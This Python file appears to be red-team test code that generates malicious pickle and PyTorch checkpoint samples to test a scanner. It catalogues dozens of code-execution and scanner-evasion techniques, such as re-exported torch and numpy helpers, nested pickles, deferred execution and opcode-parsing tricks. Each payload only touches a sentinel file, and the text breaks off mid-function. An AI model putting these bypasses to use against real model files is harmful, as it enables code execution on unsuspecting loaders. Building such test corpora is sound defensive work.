# Copied from the independent red-team helper (/work/redteam/gen_samples.py), written without
# reading our policy; kept as test code, not corpus. Regenerate by copying it again.
"""Independent red-team sample generator for checkpoint/pickle verdicts.

generate(outdir) -> list[dict]   (one record per sample; see README.md)

Every malicious payload is HARMLESS: its only effect, when really loaded, is to
create/write the file named by the environment variable RT_SENTINEL (read at
payload time: shell "$RT_SENTINEL", os.environ[...] in exec'd code, or
posixpath.expandvars('$RT_SENTINEL') for path arguments).  A few payloads that
cannot read the environment (TorchScript) write a relative file
"rt_sentinel_<family>" in the current directory instead (verify_fire.py runs
each load in a fresh temp cwd and counts ANY new file there as "fired").
"""
import io
import json
import os
import struct
import sys
import tarfile
import zipfile
import zlib

CMD = 'touch "$RT_SENTINEL"'
CODE = "import os;open(os.environ['RT_SENTINEL'],'w').write('fired')"
ZDATE = (1980, 1, 1, 0, 0, 0)


# ----------------------------------------------------------------------------
# tiny pickle emitter (protocol 2-4 binary opcodes) so we can name ANY global
# ----------------------------------------------------------------------------
class G:  # global reference
    def __init__(self, mod, name, stack=False):
        self.mod, self.name, self.stack = mod, name, stack


class C:  # call: f(*args) via REDUCE
    def __init__(self, f, *args):
        self.f, self.args = f, args


class B:  # BUILD: obj, state
    def __init__(self, obj, state):
        self.obj, self.state = obj, state


class NX:  # NEWOBJ_EX cls.__new__(cls, *args, **kw)
    def __init__(self, cls, args, kw):
        self.cls, self.args, self.kw = cls, args, kw


class Raw:
    def __init__(self, b):
        self.b = b


def _ser(x, o):
    if isinstance(x, Raw):
        o += x.b
    elif isinstance(x, G):
        if x.stack:
            _ser(x.mod, o); _ser(x.name, o); o += b'\x93'
        else:
            o += b'c' + x.mod.encode() + b'\n' + x.name.encode() + b'\n'
    elif isinstance(x, C):
        _ser(x.f, o); _ser(tuple(x.args), o); o += b'R'
    elif isinstance(x, B):
        _ser(x.obj, o); _ser(x.state, o); o += b'b'
    elif isinstance(x, NX):
        _ser(x.cls, o); _ser(tuple(x.args), o); _ser(dict(x.kw), o); o += b'\x92'
    elif x is None:
        o += b'N'
    elif x is True:
        o += b'\x88'
    elif x is False:
        o += b'\x89'
    elif isinstance(x, int):
        if 0 <= x < 256:
            o += b'K' + bytes([x])
        elif -2**31 <= x < 2**31:
            o += b'J' + struct.pack('<i', x)
        else:
            b = x.to_bytes((x.bit_length() + 8) // 8, 'little', signed=True)
            o += b'\x8a' + bytes([len(b)]) + b
    elif isinstance(x, float):
        o += b'G' + struct.pack('>d', x)
    elif isinstance(x, str):
        b = x.encode('utf-8', 'surrogatepass')
        o += b'X' + struct.pack('<I', len(b)) + b
    elif isinstance(x, (bytes, bytearray)):
        o += b'B' + struct.pack('<I', len(x)) + bytes(x)
    elif isinstance(x, tuple):
        if not x:
            o += b')'
        else:
            o += b'('
            for e in x:
                _ser(e, o)
            o += b't'
    elif isinstance(x, list):
        o += b']'
        if x:
            o += b'('
            for e in x:
                _ser(e, o)
            o += b'e'
    elif isinstance(x, dict):
        o += b'}'
        if x:
            o += b'('
            for k, v in x.items():
                _ser(k, o); _ser(v, o)
            o += b'u'
    else:
        raise TypeError(type(x))


def pk(expr, proto=4, prefix=b'', suffix=b''):
    o = bytearray(b'\x80' + bytes([proto]))
    o += prefix
    _ser(expr, o)
    o += suffix + b'.'
    return bytes(o)


def SENT():  # payload-time sentinel path
    return C(G('posixpath', 'expandvars'), '$RT_SENTINEL')


SYSTEM = C(G('posix', 'system'), CMD)          # reference payload
EXEC = C(G('builtins', 'exec'), CODE)


# ----------------------------------------------------------------------------
# containers
# ----------------------------------------------------------------------------
def _zi(name, compress=zipfile.ZIP_STORED):
    zi = zipfile.ZipInfo(name, ZDATE)
    zi.compress_type = compress
    zi.external_attr = 0o644 << 16
    return zi


def torch_zip(data_pkl, prefix='archive', pkl_name='data.pkl', compress=zipfile.ZIP_STORED,
              extra=(), first=()):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, 'w') as z:
        for n, b in first:
            z.writestr(_zi(n, compress), b)
        z.writestr(_zi(f'{prefix}/{pkl_name}', compress), data_pkl)
        z.writestr(_zi(f'{prefix}/byteorder'), b'little')
        for n, b in extra:
            z.writestr(_zi(n, compress), b)
        z.writestr(_zi(f'{prefix}/version'), b'3\n')
        z.writestr(_zi(f'{prefix}/.data/serialization_id'), b'0123456789012345678901234567890123456789')
    return bio.getvalue()


def legacy_stack(obj_pkl, keys_pkl=None):
    """legacy (non-zip) torch.save layout: magic, protocol, sys_info, OBJECT, storage keys"""
    import pickle
    magic = 0x1950a86a20f9469cfc6c
    out = pickle.dumps(magic, protocol=2) + pickle.dumps(1001, protocol=2)
    out += pickle.dumps(dict(protocol_version=1001, little_endian=True,
                             type_sizes=dict(short=2, int=4, long=4)), protocol=2)
    out += obj_pkl
    out += keys_pkl if keys_pkl is not None else pickle.dumps([], protocol=2)
    return out


def _tar_add(t, name, data):
    ti = tarfile.TarInfo(name)
    ti.size = len(data)
    ti.mtime = 0
    ti.mode = 0o644
    t.addfile(ti, io.BytesIO(data))


def legacy_tar(storages, tensors, pickle_b, first=None):
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode='w', format=tarfile.GNU_FORMAT) as t:
        if first is not None:
            _tar_add(t, first[0], first[1])
        _tar_add(t, 'storages', storages)
        _tar_add(t, 'tensors', tensors)
        _tar_add(t, 'pickle', pickle_b)
    return bio.getvalue()


def npy_bytes(descr, payload_pickle, shape='(1,)'):
    d = descr if descr.startswith('[') else "'%s'" % descr
    hdr = "{'descr': %s, 'fortran_order': False, 'shape': %s, }" % (d, shape)
    total = 10 + len(hdr) + 1
    pad = (64 - total % 64) % 64
    hdr = hdr + ' ' * pad + '\n'
    return b'\x93NUMPY\x01\x00' + struct.pack('<H', len(hdr)) + hdr.encode('latin1') + payload_pickle


# ----------------------------------------------------------------------------
# sample families
# ----------------------------------------------------------------------------
def _fn_code():
    def f():
        import os
        open(os.environ['RT_SENTINEL'], 'w').write('fired')
    return f.__code__


def _code_args(co):
    return (co.co_argcount, co.co_posonlyargcount, co.co_kwonlyargcount, co.co_nlocals,
            co.co_stacksize, co.co_flags, co.co_code, co.co_consts, co.co_names,
            co.co_varnames, co.co_filename, co.co_name, co.co_qualname, co.co_firstlineno,
            co.co_linetable, co.co_exceptiontable, co.co_freevars, co.co_cellvars)


def malicious_pickles():
    """(family, name, pickle_bytes, what) for pickle-level payloads."""
    S = []
    add = lambda fam, name, b, what: S.append((fam, name, b, what))

    # --- callables that look like data but act --------------------------------
    add('torch_subprocess_handler', 'subprocess_handler',
        pk(C(G('torch.distributed.elastic.multiprocessing.subprocess_handler.subprocess_handler',
               'SubprocessHandler'), '/bin/sh', ('-c', CMD), {}, None, None, 0, None)),
        'SubprocessHandler(entrypoint=/bin/sh, args) constructor spawns a process')
    add('torch_subprocess_handler', 'subprocess_handler_pkgpath',
        pk(C(G('torch.distributed.elastic.multiprocessing.subprocess_handler',
               'SubprocessHandler', stack=True), '/bin/sh', ('-c', CMD), {}, None, None, 0, None)),
        'SubprocessHandler via package re-export + STACK_GLOBAL')
    co = _fn_code()
    for cm, fm in (('torch.fx._symbolic_trace', 'torch.fx._symbolic_trace'),
                   ('torch._dynamo.convert_frame', 'torch._dynamo.convert_frame'),
                   ('torch.jit._monkeytype_config', 'torch.utils._config_module'),
                   ('torch._dynamo.utils', 'torch.package._package_pickler')):
        code = C(G(cm, 'CodeType'), *_code_args(co))
        fn = C(G(fm, 'FunctionType'), code, {})
        add('reexported_codetype', 'codetype_' + cm.split('.')[-1].strip('_') + '__' + fm.split('.')[-1].strip('_'),
            pk(C(fn)), f'{cm}.CodeType + {fm}.FunctionType (re-exported types) build a function from bytecode, then call it')
    add('numpy_file_write', 'np_savetxt', pk(C(G('numpy', 'savetxt'), SENT(), [1.0])),
        'numpy.savetxt(path-from-env, [1.0]) writes a file')
    add('numpy_file_write', 'np_memmap', pk(C(G('numpy', 'memmap'), SENT(), 'uint8', 'w+', 0, (4,))),
        'numpy.memmap(path, uint8, "w+", 0, (4,)) creates a file')
    add('numpy_file_write', 'np_save', pk(C(G('numpy', 'save'), SENT(), [1])),
        'numpy.save(path) writes path.npy')
    add('numpy_file_write', 'np_open_memmap',
        pk(C(G('numpy.lib.format', 'open_memmap'), SENT(), 'w+', 'uint8', (2,))),
        'numpy.lib.format.open_memmap(path, "w+") creates a .npy file')
    add('numpy_exec', 'np_testing_runstring',
        pk(C(G('numpy.testing._private.utils', 'runstring'), CODE, {})),
        'numpy.testing._private.utils.runstring == exec(src, dict)')
    add('sympy_sympify', 'sympify_eval',
        pk(C(G('sympy', 'sympify'), "__import__('os').system('touch \"$RT_SENTINEL\"')")),
        'sympy.sympify(str) evals the string (parse_expr -> eval)')
    add('sympy_sympify', 'parse_expr_eval',
        pk(C(G('sympy.parsing.sympy_parser', 'parse_expr'), "__import__('os').system('touch \"$RT_SENTINEL\"')")),
        'sympy.parsing.sympy_parser.parse_expr evals the string')
    imp_os = C(G('builtins', '__import__'), 'os')
    add('getattr_chain', 'getattr_import',
        pk(C(C(G('builtins', 'getattr'), imp_os, 'system'), CMD)),
        'getattr(__import__("os"), "system")(cmd) - no os.system global')
    add('getattr_chain', 'getattr_sys_modules',
        pk(C(C(G('builtins', 'getattr'),
               C(C(G('builtins', 'getattr'), G('sys', 'modules'), 'get'), 'posix'), 'system'), CMD)),
        'getattr(sys.modules.get("posix"), "system")(cmd)')
    add('operator_methodcaller', 'methodcaller_importlib',
        pk(C(C(G('operator', 'methodcaller'), 'system', CMD), C(G('importlib', 'import_module'), 'os'))),
        'operator.methodcaller("system", cmd)(importlib.import_module("os"))')
    add('operator_methodcaller', 'methodcaller_path_touch',
        pk(C(C(G('_operator', 'methodcaller'), 'touch'), C(G('pathlib', 'PosixPath'), SENT()))),
        'methodcaller("touch")(PosixPath(path)) - benign-looking PosixPath made to act')
    add('operator_methodcaller', 'attrgetter_write_text',
        pk(C(C(C(G('operator', 'attrgetter'), 'write_text'), C(G('pathlib', 'Path'), SENT())), 'fired')),
        'attrgetter("write_text")(Path(path))("fired")')
    add('functools_reduce', 'reduce_getattr',
        pk(C(C(G('functools', 'reduce'), G('builtins', 'getattr'), ['system'],
               C(G('importlib', 'import_module'), 'posix')), CMD)),
        'functools.reduce(getattr, ["system"], posix)(cmd)')
    add('functools_partial', 'partial_exec',
        pk(C(C(G('functools', 'partial'), G('builtins', 'exec'), CODE))),
        'functools.partial(exec, code)() - the REDUCE target is a partial object')
    part = B(C(G('functools', 'partial'), G('builtins', 'len')),
             (G('builtins', 'exec'), (CODE,), {}, None))
    add('functools_partial', 'partial_build_swap', pk(C(part)),
        'partial(len) then BUILD (partial.__setstate__) swaps func to exec; then called')
    add('importlib_import', 'import_module_system',
        pk(C(C(G('builtins', 'getattr'), C(G('importlib', 'import_module'), 'subprocess'), 'call'),
             ['/bin/sh', '-c', CMD])),
        'importlib.import_module("subprocess").call([...])')
    add('pydoc_locate', 'pydoc_locate_system', pk(C(C(G('pydoc', 'locate'), 'os.system'), CMD)),
        'pydoc.locate("os.system")(cmd)')
    add('pydoc_locate', 'pkgutil_resolve_name',
        pk(C(C(G('pkgutil', 'resolve_name'), 'os:system'), CMD)),
        'pkgutil.resolve_name("os:system")(cmd)')
    inner = pk(SYSTEM, proto=2)
    add('nested_pickle', 'pickle_py_loads', pk(C(G('pickle', '_loads'), inner)),
        'pickle._loads (pure-Python unpickler) of inner os.system pickle')
    add('nested_pickle', 'torch_serialization_pickle_loads',
        pk(C(G('torch.serialization', 'pickle.loads', stack=True), inner)),
        'STACK_GLOBAL torch.serialization / "pickle.loads" (dotted attr through a re-exported module)')
    add('nested_pickle', 'pickle_unpickler_load',
        pk(C(C(G('builtins', 'getattr'), C(G('pickle', 'Unpickler'), C(G('io', 'BytesIO'), inner)), 'load'))),
        'pickle.Unpickler(BytesIO(inner)).load()')
    inner_zip = torch_zip(pk(SYSTEM, proto=2))
    tl = B(C(G('functools', 'partial'), G('torch', 'load')), (G('torch', 'load'), (), {'weights_only': False}, None))
    add('nested_torch_load', 'partial_torch_load', pk(C(tl, C(G('io', 'BytesIO'), inner_zip))),
        'partial(torch.load, weights_only=False)(BytesIO(inner torch zip with payload))')
    add('nested_torch_load', 'storage_load_from_bytes',
        pk(C(G('torch.storage', '_load_from_bytes'), inner_zip)),
        'torch.storage._load_from_bytes(inner zip) -> torch.load(weights_only=False)')
    add('nested_torch_load', 'storage_load_from_bytes_legacy',
        pk(C(G('torch.storage', '_load_from_bytes'), legacy_stack(pk(SYSTEM, proto=2)))),
        '_load_from_bytes of a legacy (non-zip) torch.save stream with payload')
    add('stdlib_exec', 'cprofile_run', pk(C(G('cProfile', 'run'), CODE)),
        'cProfile.run(statement) execs the statement')
    add('stdlib_exec', 'profile_run', pk(C(G('profile', 'run'), CODE)),
        'profile.run(statement) execs')
    add('stdlib_exec', 'code_interp_runsource',
        pk(C(C(G('builtins', 'getattr'), C(G('code', 'InteractiveInterpreter')), 'runsource'), CODE)),
        'code.InteractiveInterpreter().runsource(src)')
    add('stdlib_exec', 'trace_run',
        pk(C(C(G('builtins', 'getattr'), C(G('trace', 'Trace'), 0, 0), 'run'), CODE)),
        'trace.Trace(count=0, trace=0).run(cmd) execs')
    add('stdlib_exec', 'timeit_timeit_stmt', pk(C(G('timeit', 'timeit'), CODE, 'pass', G('time', 'perf_counter'), 1)),
        'timeit.timeit(stmt=code, number=1) compiles+execs the statement')
    add('stdlib_file_write', 'shutil_copyfile', pk(C(G('shutil', 'copyfile'), '/dev/null', SENT())),
        'shutil.copyfile("/dev/null", path) creates a file')
    add('stdlib_file_write', 'zipfile_write', pk(C(G('zipfile', 'ZipFile'), SENT(), 'w')),
        'zipfile.ZipFile(path, "w") creates a file')
    add('stdlib_file_write', 'gzip_open_wb', pk(C(C(G('builtins', 'getattr'), C(G('gzip', 'open'), SENT(), 'wb'), 'close'))),
        'gzip.open(path, "wb").close()')
    add('stdlib_file_write', 'logging_filehandler', pk(C(G('logging', 'FileHandler'), SENT())),
        'logging.FileHandler(path) opens/creates the file')
    add('stdlib_file_write', 'sqlite3_connect',
        pk(C(C(G('builtins', 'getattr'), C(G('sqlite3', 'connect'), SENT()), 'execute'), 'create table t(x)')),
        'sqlite3.connect(path).execute(...) creates a db file')
    add('stdlib_process', 'os_spawnv', pk(C(G('os', 'spawnv'), 0, '/bin/sh', ['sh', '-c', CMD])),
        'os.spawnv(P_WAIT, /bin/sh, ...)')
    add('stdlib_process', 'posix_spawn', pk(C(G('posix', 'posix_spawn'), '/bin/sh', ['sh', '-c', CMD],
                                               C(G('builtins', 'dict'), G('os', 'environ')))),
        'posix.posix_spawn(/bin/sh, ..., env)')
    add('stdlib_process', 'subprocess_getoutput', pk(C(G('subprocess', 'getoutput'), CMD)),
        'subprocess.getoutput(cmd)')
    add('stdlib_process', 'os_popen_read',
        pk(C(C(G('builtins', 'getattr'), C(G('os', 'popen'), CMD), 'read'))), 'os.popen(cmd).read()')
    add('torch_helper_exec', 'collect_env_run', pk(C(G('torch.utils.collect_env', 'run'), CMD)),
        'torch.utils.collect_env.run(str) -> Popen(shell=True)')
    add('torch_helper_exec', 'fx_exec_with_source',
        pk(C(G('torch.fx.graph_module', '_exec_with_source'), CODE, {})),
        'torch.fx.graph_module._exec_with_source(src, globals) -> exec')
    add('torch_helper_write', 'inductor_write_atomic',
        pk(C(G('torch._inductor.codecache', 'write_atomic'), SENT(), 'fired')),
        'torch._inductor.codecache.write_atomic(path, content) writes a file')
    add('torch_helper_write', 'torch_save_to_path', pk(C(G('torch', 'save'), {}, SENT())),
        'torch.save({}, path) writes a file')
    add('torch_helper_write', 'torch_from_file_shared',
        pk(C(G('torch', 'from_file'), SENT(), True, 4)),
        'torch.from_file(path, shared=True, size=4) creates/maps the file')

    # --- callables passed as DATA (the acting function is an argument, not the REDUCE target)
    add('callable_as_argument', 'collect_env_run_and_read_all',
        pk(C(G('torch.utils.collect_env', 'run_and_read_all'), G('torch.utils.collect_env', 'run'), CMD)),
        'collect_env.run_and_read_all(run_lambda=collect_env.run, cmd)')
    add('callable_as_argument', 'list_map_system',
        pk(C(G('builtins', 'list'), C(G('builtins', 'map'), G('posix', 'system'), [CMD]))),
        'list(map(os.system, [cmd])) - map is lazy, list() drives it')
    add('callable_as_argument', 'operator_call', pk(C(G('_operator', 'call'), G('builtins', 'exec'), CODE)),
        'operator.call(exec, code) (3.11+)')
    add('callable_as_argument', 'numpy_vectorize',
        pk(C(C(G('numpy', 'vectorize'), G('posix', 'system')), [CMD])),
        'numpy.vectorize(os.system)([cmd])')
    add('callable_as_argument', 'numpy_frompyfunc',
        pk(C(C(G('numpy', 'frompyfunc'), G('builtins', 'exec'), 1, 1), [CODE])),
        'numpy.frompyfunc(exec, 1, 1)([code]) - a ufunc built from exec')
    add('callable_as_argument', 'defaultdict_factory',
        pk(C(G('_operator', 'getitem'),
             C(G('collections', 'defaultdict'), C(G('functools', 'partial'), G('posix', 'system'), CMD)), 'missing')),
        'defaultdict(partial(os.system, cmd))["missing"] - the factory runs on a missing key')
    add('callable_as_argument', 'itertools_starmap',
        pk(C(G('builtins', 'tuple'), C(G('itertools', 'starmap'), G('posix', 'system'), [(CMD,)]))),
        'tuple(itertools.starmap(os.system, [(cmd,)]))')
    # --- deferred execution (runs after the load returned) -----------------------
    add('deferred_exec', 'atexit_register', pk(C(G('atexit', 'register'), G('posix', 'system'), CMD)),
        'atexit.register(os.system, cmd): fires when the loading interpreter exits')
    add('deferred_exec', 'weakref_finalize',
        pk(C(G('weakref', 'finalize'), C(G('builtins', 'set')), G('posix', 'system'), CMD)),
        'weakref.finalize(temp set, os.system, cmd): fires when the temp object is collected (right after load)')
    add('deferred_exec', 'threading_timer',
        pk(C(C(G('builtins', 'getattr'), C(G('threading', 'Timer'), 0.01, G('posix', 'system'), [CMD]), 'start'))),
        'threading.Timer(0.01, os.system, [cmd]).start(): fires on a thread shortly after load')
    # --- two-stage dropper: write a .py then run it ---------------------------------
    drop = C(G('_operator', 'add'), SENT(), '.py')
    add('dropper_two_stage', 'write_atomic_then_run_path',
        pk(C(G('_operator', 'getitem'),
             (C(G('torch._inductor.codecache', 'write_atomic'), drop, CODE), C(G('runpy', 'run_path'), drop)), 0)),
        'write_atomic("$RT_SENTINEL.py", code) then runpy.run_path of it (checked on the exact sentinel)')
    # --- more torch helpers -------------------------------------------------------------
    add('torch_helper_exec', 'cpp_builder_run_compile_cmd',
        pk(C(G('torch._inductor.cpp_builder', '_run_compile_cmd'), "sh -c 'touch \"$RT_SENTINEL\"'", '.')),
        'torch._inductor.cpp_builder._run_compile_cmd(cmd_line, cwd) -> subprocess.run(shlex.split(cmd))')
    add('torch_helper_exec', 'benchmark_timer_stmt',
        pk(C(C(G('builtins', 'getattr'), C(G('torch.utils.benchmark', 'Timer'), CODE), 'timeit'), 1)),
        'torch.utils.benchmark.Timer(stmt=code).timeit(1) compiles and runs stmt')
    add('torch_helper_exec', 'jit_compilation_unit',
        pk(C(C(G('builtins', 'getattr'),
               C(G('torch.jit', 'CompilationUnit'),
                 "def f() -> int:\n    t = torch.from_file('rt_sentinel_cu', True, 4, dtype=torch.uint8)\n    return t.numel()\n"),
               'f'))),
        'torch.jit.CompilationUnit(TorchScript source).f() - TorchScript source compiled and run (writes ./rt_sentinel_cu)')
    add('torch_helper_exec', 'fx_forward_from_src',
        pk(C(C(G('torch.fx.graph_module', '_forward_from_src'),
               "def forward(self):\n    import os\n    open(os.environ['RT_SENTINEL'], 'w').write('fired')\n", {}), None)),
        'torch.fx.graph_module._forward_from_src(src, globals) returns an exec-built function, then called')
    hub_dir = C(G('posixpath', 'dirname'), SENT())
    add('dropper_two_stage', 'torch_hub_load_local',
        pk(C(G('_operator', 'getitem'),
             (C(G('torch._inductor.codecache', 'write_atomic'), C(G('posixpath', 'join'), hub_dir, 'hubconf.py'),
                CODE + "\ndef entry():\n    return 1\n"),
              C(G('torch.hub', '_load_local'), hub_dir, 'entry')), 1)),
        'write_atomic(<dir>/hubconf.py) then torch.hub._load_local(<dir>, "entry") imports it (checked on the exact sentinel)')
    add('numpy_file_write', 'ndarray_tofile',
        pk(C(C(G('operator', 'methodcaller'), 'tofile', SENT()), C(G('numpy', 'zeros'), 1))),
        'methodcaller("tofile", path)(numpy.zeros(1))')
    # --- trampolines: benign-looking reconstruction helpers that call an argument --------
    add('rebuild_trampoline', 'rebuild_from_type_v2',
        pk(C(G('torch._tensor', '_rebuild_from_type_v2'), G('posix', 'system'), G('torch', 'Tensor'), (CMD,), {})),
        'torch._tensor._rebuild_from_type_v2(func=os.system, Tensor, (cmd,), {}) calls func(*args) (errors after firing)')
    add('rebuild_trampoline', 'tensor_rebuild_from_type',
        pk(C(G('torch._tensor', '_rebuild_from_type'), G('builtins', 'exec'), G('torch', 'Tensor'), (CODE,), {})),
        'torch._tensor._rebuild_from_type(exec, Tensor, (code,), {})')
    add('rebuild_trampoline', 'copyreg_reconstructor_popen',
        pk(C(G('copyreg', '_reconstructor'), G('subprocess', 'Popen'), G('subprocess', 'Popen'), ['/bin/sh', '-c', CMD]),
           proto=2),
        'copyreg._reconstructor(Popen, Popen, argv) -> Popen.__init__(obj, argv) (the protocol 0/1 object helper)')
    # --- dotted names resolved through module attributes (protocol 4 find_class) ---------
    add('dotted_global_attr_walk', 'torch_serialization_os_system',
        b'\x80\x04ctorch\nserialization.os.system\n' + _b((CMD,)) + b'R.',
        'GLOBAL "torch" "serialization.os.system" (proto 4 walks attributes: torch -> serialization -> os -> system)')
    add('dotted_global_attr_walk', 'numpy_stack_global_os',
        b'\x80\x04' + _b('numpy') + _b('lib._npyio_impl.os.system') + b'\x93' + _b((CMD,)) + b'R.',
        'STACK_GLOBAL "numpy" "lib._npyio_impl.os.system" - module looks like numpy')
    add('dotted_global_attr_walk', 'torch_utils_pickle_loads',
        b'\x80\x04ctorch._utils\npickle.loads\n' + _b((pk(EXEC, proto=2),)) + b'R.',
        'GLOBAL "torch._utils" "pickle.loads" nested pickle')
    add('dotted_global_attr_walk', 'inst_dotted',
        b'\x80\x04(V' + CMD.encode() + b'\nitorch\nserialization.os.system\n.',
        'INST with a dotted attribute path under protocol 4')

    # --- opcode parsing differences -----------------------------------------
    sysg = b'cposix\nsystem\n'
    cmd0 = b'(V' + CMD.encode() + b'\ntR'
    add('opcode_int_hex', 'int_hex_prefix', b'I0x1\n0' + sysg + cmd0 + b'.',
        'protocol 0: INT "0x1" (base-0 parse) popped, then os.system')
    add('opcode_int_hex', 'int_hex_arg', b'\x80\x02' + b'c__builtin__\ngetattr\n(c__builtin__\n__import__\n(Vos\ntRVsystem\ntR(V' + CMD.encode() + b'\ntRI0x10\n0.',
        'getattr chain then INT hex; many re-implementations reject I0x10')
    add('opcode_long_hex', 'long_hex_prefix', b'L0x1L\n0' + sysg + cmd0 + b'.',
        'protocol 0: LONG "0x1L" popped, then os.system')
    add('opcode_mark_pop', 'mark_pop', b'\x80\x02(0' + sysg + cmd0 + b'.',
        'MARK followed by POP (pops the mark) then payload')
    add('opcode_mark_pop', 'pop_mark_pop', b'\x80\x02((1(0' + sysg + cmd0 + b'.',
        'nested MARK / POP_MARK / MARK+POP before payload')
    add('opcode_text_proto0', 'proto0_string_exec',
        b"c__builtin__\nexec\n(S'" + CODE.replace("'", "\\'").encode() + b"'\ntR.",
        'pure protocol 0: GLOBAL __builtin__.exec + STRING (escaped quotes)')
    add('opcode_text_proto1', 'proto1_binunicode',
        b'cposix\nsystem\n(X' + struct.pack('<I', len(CMD)) + CMD.encode() + b'tR.',
        'protocol 1 binary opcodes without PROTO header')
    add('opcode_obj', 'obj_opcode', b'\x80\x02(cposix\nsystem\nX' + struct.pack('<I', len(CMD)) + CMD.encode() + b'o.',
        'OBJ opcode (MARK cls args OBJ) calls os.system')
    add('opcode_inst', 'inst_subprocess', b'((S\'/bin/sh\'\nS\'-c\'\nS\'' + CMD.encode() + b'\'\nlisubprocess\ncall\n.',
        'INST subprocess.call with a list built by protocol-0 LIST')
    add('opcode_newobj_ex', 'newobj_ex_memmap',
        pk(NX(G('numpy', 'memmap'), (SENT(),), {'mode': 'w+', 'shape': (4,)})),
        'NEWOBJ_EX numpy.memmap.__new__(path, mode="w+") creates a file (kwargs, no REDUCE)')
    add('opcode_newobj', 'newobj_memmap',
        b'\x80\x02' + _b(G('numpy', 'memmap')) + b'(' + _b(SENT()) + _b('uint8') + _b('w+') + _b(0) + _b((4,)) + b't\x81.',
        'NEWOBJ (protocol 2) numpy.memmap.__new__ creates a file')
    add('opcode_build_setstate', 'build_partial_swap_dict',
        pk({'model': C(B(C(G('functools', 'partial'), G('builtins', 'print')),
                          (G('posix', 'system'), (CMD,), None, None)))}),
        'partial(print) BUILD-swapped to os.system inside a state dict; REDUCE target is the partial')
    ext = C(G('copyreg', 'add_extension'), 'posix', 'system', 0x5a)
    add('opcode_ext', 'ext1_copyreg',
        b'\x80\x02' + _b(ext) + b'0\x82\x5a' + _b((CMD,)) + b'R.',
        'copyreg.add_extension("posix","system",0x5a) then EXT1 0x5a -> os.system')
    add('opcode_ext', 'ext2_copyreg',
        b'\x80\x02' + _b(C(G('copyreg', 'add_extension'), 'builtins', 'exec', 0x1234)) + b'0\x83\x34\x12' + _b((CODE,)) + b'R.',
        'copyreg.add_extension then EXT2 -> builtins.exec')
    modn = C(G('_operator', 'add'), 'po', 'six')
    namn = C(G('_operator', 'add'), 'sys', 'tem')
    add('opcode_computed_stack_global', 'stack_global_computed',
        b'\x80\x04' + _b(modn) + _b(namn) + b'\x93' + _b((CMD,)) + b'R.',
        'STACK_GLOBAL operands computed at load time by operator.add("po","six")')
    add('opcode_memo', 'memo_computed_stack_global',
        b'\x80\x04' + _b(C(G('builtins', 'str.lower', stack=True), 'POSIX')) + b'\x94'
        + _b(C(G('_operator', 'concat'), 'sys', 'tem')) + b'\x94' + b'0h\x00h\x01\x93' + _b((CMD,)) + b'R.',
        'MEMOIZE computed names, POP, then GET both into STACK_GLOBAL (dotted "str.lower")')
    add('opcode_memo', 'memo_long_binput',
        b'\x80\x02' + _b('posix') + b'r\xff\xff\x00\x000' + _b('system') + b'r\x00\x00\x01\x000'
        + b'\x80\x04' + b'j\xff\xff\x00\x00j\x00\x00\x01\x00\x93' + _b((CMD,)) + b'R.',
        'LONG_BINPUT at large indices, second PROTO mid-stream, LONG_BINGET into STACK_GLOBAL')
    add('opcode_frame', 'frame_short',
        b'\x80\x04\x95\x02\x00\x00\x00\x00\x00\x00\x00' + _b(SYSTEM) + b'.',
        'FRAME declaring 2 bytes followed by a longer payload (C unpickler ignores frame bounds)')
    add('opcode_frame', 'frame_nested',
        b'\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00' + b'\x95\x01\x00\x00\x00\x00\x00\x00\x00' + _b(SYSTEM) + b'.',
        'FRAME inside FRAME, then payload')
    add('opcode_persid', 'persid_after_payload',
        b'\x80\x02' + _b(SYSTEM) + b'0Pstorage\n.',
        'payload then text PERSID (pickle.load errors only after the payload ran)')
    add('opcode_proto_bump', 'proto5_bytearray_noise',
        b'\x80\x05\x96' + struct.pack('<Q', 3) + b'abc0' + _b(SYSTEM) + b'.',
        'protocol 5 BYTEARRAY8 popped, then payload')
    return S


def _b(x):
    o = bytearray()
    _ser(x, o)
    return bytes(o)


# ----------------------------------------------------------------------------
# determinism: torch writes a random .data/serialization_id and the legacy
# format names storages by memory address; normalise both (same length, CRCs fixed)
# ----------------------------------------------------------------------------
_SID_NAME = b'.data/serialization_id'


def _det(b):
    import re
    b = bytearray(b)
    old_crcs = {}
    i = 0
    while True:
        i = b.find(b'PK\x03\x04', i)
        if i < 0 or i + 30 > len(b):
            break
        flag, method = struct.unpack('<HH', b[i + 6:i + 10])
        crc, csize, usize, fnl, exl = struct.unpack('<IIIHH', b[i + 14:i + 30])
        name = bytes(b[i + 30:i + 30 + fnl])
        if name.endswith(_SID_NAME) and method == 0 and not (flag & 8) and csize == usize and 0 < usize <= 64:
            ds = i + 30 + fnl + exl
            new = (b'0123456789' * 7)[:usize]
            b[ds:ds + usize] = new
            nc = zlib.crc32(new)
            b[i + 14:i + 18] = struct.pack('<I', nc)
            old_crcs[(name, crc)] = nc
        i += 4
    if old_crcs:
        i = 0
        while True:
            i = b.find(b'PK\x01\x02', i)
            if i < 0 or i + 46 > len(b):
                break
            crc = struct.unpack('<I', b[i + 16:i + 20])[0]
            fnl = struct.unpack('<H', b[i + 28:i + 30])[0]
            name = bytes(b[i + 46:i + 46 + fnl])
            if (name, crc) in old_crcs:
                b[i + 16:i + 20] = struct.pack('<I', old_crcs[(name, crc)])
            i += 4
    # legacy storage keys: BINUNICODE of a long decimal (a pointer) -> same-length index
    keys = {}

    def rep(m):
        k = m.group(2)
        if k not in keys:
            keys[k] = str(len(keys)).zfill(len(k)).encode()
        v = keys[k]
        return m.group(1) + (v if len(v) == len(k) else k)
    b = re.sub(rb'(X[\x0c-\x14]\x00\x00\x00)(\d{12,20})(?=q|\x94|r|h|\x86|\x85|\x87|t|X|K|N|\))', rep, bytes(b))
    return bytes(b)


def generate(outdir):
    import pickle
    import warnings
    warnings.filterwarnings('ignore')
    outdir = os.path.abspath(outdir)
    os.makedirs(outdir, exist_ok=True)
    recs = []

    def put(rel, data, label, family, loader, what, **kw):
        p = os.path.join(outdir, rel)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, 'wb') as f:
            f.write(_det(data))
        if label is None:  # auxiliary file of a folder sample: write only
            return
        r = dict(file=rel, label=label, family=family, loader=loader, what=what)
        r.update(kw)
        recs.append(r)

    pks = malicious_pickles()
    ex = lambda fam: {'exact': True} if fam == 'dropper_two_stage' else {}
    for fam, name, b, what in pks:
